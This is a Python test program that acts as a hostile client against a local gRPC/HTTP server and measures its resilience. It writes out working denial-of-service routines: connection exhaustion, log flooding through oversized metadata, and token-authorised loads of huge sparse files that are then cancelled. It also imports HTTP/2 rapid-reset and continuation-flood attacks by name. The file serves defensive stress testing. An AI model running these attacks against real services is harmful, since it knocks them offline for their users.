"""The attacks of a hostile client. Each runs for some seconds against a server on this machine.

    attacks.py NAME JSON

JSON is an object: grpc_port, http_port, seconds, arguments of single attacks, and token. The token may search and
administer, and is used only by the attacks of known clients. The program attacks for the given seconds, and then until
its standard input ends. It is a separate program, so that it does not slow down the process that measures. At the end
it prints one line of JSON that says what it has done.
"""

import json
import socket
import sys
import time

import http2
from attacker import MIB, RERANK, Attacker
from frame_attacks import (
    continuation_flood,
    continuation_flood_after_health,
    indexed_headers,
    rapid_resets,
    rapid_resets_of_health,
    rapid_resets_with_token,
)
from http2 import CANCEL, END_HEADERS, RST_STREAM, frame
from http_attacks import json_bombs, slow_bodies
from stream_attacks import (
    announced_message,
    announced_message_to_health,
    health_watches,
    reflection_streams,
    reflection_streams_without_token,
    unfinished_messages,
    unfinished_messages_with_token,
    unread_answers,
)


def idle_connections(attacker, port, count=200):
    """Opens many more connections than the server has descriptors, and sends nothing. Opens a new one for each that the
    server closes."""
    sockets, opened = [], 0
    while attacker.running():
        while len(sockets) < count and attacker.running():
            try:
                sockets.append(socket.create_connection(("127.0.0.1", port), timeout=0.2))
                opened += 1
            except OSError:
                break
        alive = []
        for one in sockets:
            one.setblocking(False)
            try:
                if one.recv(1) == b"":
                    one.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                one.close()
                continue
            alive.append(one)
        sockets = alive
        time.sleep(0.05)
    return {"connections": opened, "open_at_the_end": len(sockets)}


def idle_grpc(attacker):
    return idle_connections(attacker, attacker.grpc_port)


def idle_http(attacker):
    return idle_connections(attacker, attacker.http_port)


def log_flood(attacker):
    """Sends calls with a megabyte of metadata, about which gRPC logs a complaint. These complaints must not fill the
    log."""
    block = http2.grpc_header_block(RERANK, te="x" * MIB)
    small = http2.grpc_header_block(RERANK, te="x" * 400)
    sent, calls = 0, 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        try:
            for i in range(50):
                one = block if i == 49 else small
                connection.send_headers(1 + 2 * i, one, END_HEADERS | http2.END_STREAM)
                sent += len(one)
                calls += 1
                if not connection.pump():
                    break
            connection.pump(0.02)
        except OSError:
            pass
        connection.close()
    return {"sent_bytes": sent, "calls": calls}


def sparse_loads(attacker):
    """With a token, repeatedly loads a collection whose shard is a sparse file of terabytes, and cancels the load."""
    body = http2.hpack_string  # a protobuf string has a length of the same form below 127 bytes
    path = attacker.options["sparse_collection"].encode()
    calls = 0
    block = http2.grpc_header_block("/maxsim.v1.Admin/LoadCollection", attacker.authorization())
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        try:
            for i in range(8):
                name = b"sparse-%d" % (calls % 64)
                message = b"\x0a" + body(name) + b"\x12" + body(path)
                connection.send_headers(1 + 2 * i, block)
                connection.send_data(1 + 2 * i, http2.grpc_prefix(len(message)) + message, end=True)
                calls += 1
            connection.pump(0.2)
            for i in range(8):
                connection.send(frame(RST_STREAM, 0, 1 + 2 * i, CANCEL))
        except OSError:
            pass
        connection.close()
    return {"calls": calls}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        idle_grpc,
        idle_http,
        continuation_flood,
        continuation_flood_after_health,
        indexed_headers,
        rapid_resets,
        rapid_resets_of_health,
        rapid_resets_with_token,
        announced_message,
        announced_message_to_health,
        unfinished_messages,
        unfinished_messages_with_token,
        reflection_streams,
        reflection_streams_without_token,
        health_watches,
        unread_answers,
        json_bombs,
        slow_bodies,
        log_flood,
        sparse_loads,
    )
}

# SECURITY.md says that clients with a token are trusted not to make these attacks, which gRPC 1.51 cannot limit.
TRUSTED_NOT_TO = {"rapid_resets_with_token"}


if __name__ == "__main__":
    print(json.dumps(ATTACKS[sys.argv[1]](Attacker(json.loads(sys.argv[2])))), flush=True)
